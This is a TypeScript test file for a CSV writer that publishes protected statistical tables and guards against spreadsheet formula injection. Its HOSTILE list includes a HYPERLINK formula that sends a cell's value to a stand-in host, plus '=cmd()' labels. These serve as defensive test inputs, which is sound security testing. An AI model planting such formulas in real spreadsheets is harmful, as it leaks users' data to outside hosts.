import { describe, expect, it } from 'vitest';
import { csvComment, csvDocument, csvLine, toCsv } from './csv.ts';
import { protectSeries, protectTable, tabulate, type PublishedTable, type TableInput } from './table.ts';

const options = { secret: 'test release secret, csv output', method: 'rr3' } as const;
const input: TableInput = {
  measure: 'children identified',
  fixed: { year: '2025' },
  rows: { name: 'region', categories: ['Auckland', 'Wellington, "capital"', '=cmd()'] },
  columns: { name: 'sex', categories: ['female', 'male'] },
  cells: [
    { labels: { region: 'Auckland', sex: 'female' }, count: 30 },
    { labels: { region: 'Auckland', sex: 'male' }, count: 12 },
    { labels: { region: 'Wellington, "capital"', sex: 'female' }, count: 24 },
    { labels: { region: 'Wellington, "capital"', sex: 'male' }, count: 2 },
    { labels: { region: '=cmd()', sex: 'female' }, count: 9 },
    { labels: { region: '=cmd()', sex: 'male' }, count: 0 },
  ],
};

describe('toCsv', () => {
  it('writes the grid with totals, "*" and "S", quoted and formula-safe labels, and footnotes', () => {
    const t = protectTable(input, options);
    const show = (v: PublishedTable['total']): string =>
      v === null ? '' : v.suppressed ? (v.reason === 'primary' ? '*' : 'S') : String(v.value);
    const lines = toCsv(t).split('\r\n');
    expect(lines[0]).toBe('region,female,male,Total');
    expect(lines[1]).toBe(
      `Auckland,${show(t.body[0]![0]!)},${show(t.body[0]![1]!)},${show(t.rowTotals![0]!)}`,
    );
    expect(lines[2]).toMatch(/^"Wellington, ""capital""",S,\*,/);
    expect(lines[3]).toMatch(/^'=cmd\(\),/);
    expect(lines[4]).toBe(`Total,${show(t.columnTotals![0]!)},${show(t.columnTotals![1]!)},${show(t.total)}`);
    expect(lines[5]).toBe('');
    expect(lines[6]).toBe('Measure: children identified. For year 2025.');
    expect(lines.slice(7).join('\n')).toMatch(
      /randomly rounded to base 3[\s\S]*may not equal the sum[\s\S]*\* = suppressed because the count is fewer than 6[\s\S]*S = suppressed so that[\s\S]*0 is a true zero/,
    );
    expect(lines.at(-1)).toBe('');
  });

  it('writes a one-way table and leaves the footnotes out when asked', () => {
    const t = protectSeries(
      {
        measure: 'referrals received',
        points: [
          { period: '2025-Q1', count: 3 },
          { period: '2025-Q2', count: 9 },
        ],
      },
      { ...options, method: 'grr' },
    );
    expect(toCsv(t, { footnote: false })).toBe('period,referrals received\r\n2025-Q1,*\r\n2025-Q2,9\r\n');
    expect(toCsv(t)).toMatch(/graduated random rounding/);
    const named = toCsv(t, {
      footnote: false,
      countHeader: 'Number',
      label: (dimension, code) => `${dimension} ${code.replace('-Q', ' quarter ')}`,
    });
    expect(named).toBe('period,Number\r\nperiod 2025 quarter 1,*\r\nperiod 2025 quarter 2,9\r\n');
  });

  it('refuses an exact table', () => {
    expect(() => toCsv(tabulate(input) as unknown as PublishedTable)).toThrow(/protected table only/);
  });
});

/** Cells as a spreadsheet reads one line: split at commas, a cell opening with a quote runs to its closing quote. */
function spreadsheetCells(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      for (i++; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') cell += line.charAt(++i);
        else if (line[i] === '"') break;
        else cell += line.charAt(i);
      }
      i++;
    }
    while (i < line.length && line[i] !== ',') cell += line.charAt(i++);
    cells.push(cell);
    if (i >= line.length) return cells;
    i++;
  }
}

const RUNS_AS_FORMULA = /^\s*[=+\-@]|^[\t\r]/;
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
  '+1',
  '-1+1',
  '@SUM(A1:A9)',
  ' =1+1',
  '\t=1',
];

describe('the guarded CSV writer', () => {
  it('writes cells a spreadsheet shows as text, never runs', () => {
    for (const value of HOSTILE) {
      const cells = spreadsheetCells(csvLine(['Auckland', value, '3']));
      expect(cells).toHaveLength(3);
      expect(cells[1]).toBe(`'${value}`);
      expect(cells.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
    }
    expect(csvLine(['plain', 'with, comma', 'a "quote"'])).toBe('plain,"with, comma","a ""quote"""');
  });

  it('keeps a comment line on one line, starting with "#", with every piece inert', () => {
    for (const value of HOSTILE) {
      const line = csvComment(`Purpose: counting, ${value}, "${value}",${value}\nsecond line`);
      expect(line.startsWith('# Purpose: counting,')).toBe(true);
      expect(line).not.toMatch(/[\r\n]/);
      expect(spreadsheetCells(line).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
    }
    expect(csvComment('Rows: 12 of 30 children')).toBe('# Rows: 12 of 30 children');
  });

  it('ends every line with CRLF', () => {
    expect(csvDocument([csvComment('note'), csvLine(['a', 'b']), ''])).toBe('# note\r\na,b\r\n\r\n');
  });
});
